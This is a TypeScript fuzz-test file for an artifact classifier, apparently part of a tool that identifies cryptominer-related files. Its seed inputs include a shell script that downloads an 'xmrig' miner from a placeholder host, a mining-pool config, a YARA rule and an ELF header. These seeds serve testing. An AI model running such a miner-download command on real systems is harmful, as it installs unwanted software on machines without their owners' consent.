import { classify } from '../../src/codec/classify/classify.ts';
import { artifactKindSchema } from '../../src/model/artifact.ts';
import type { FuzzTarget } from '../target.ts';

const seeds = [
  '#!/bin/sh\ncurl -O http://x.example/xmrig\n',
  '{ "pools": [{ "url": "pool.example:3333" }] }',
  '/* h */\n"pool_list" :\n[\n],\n',
  'rule a {\n strings:\n $a = "x"\n condition: $a\n}\n',
  '0.0.0.0 a.example\n'.repeat(10),
  '[Unit]\nDescription=a\n',
  '<?xml version="1.0"?><html><script>',
  '\u007fELF\u0002\u0001',
];

export const target: FuzzTarget = {
  id: 'classify',
  seeds: () => seeds.map((seed) => new TextEncoder().encode(seed)),
  run: (bytes) => {
    const kind = classify('sample', bytes, bytes.length);
    if (!artifactKindSchema.options.includes(kind)) throw new Error(`no such kind: ${kind}`);
  },
};
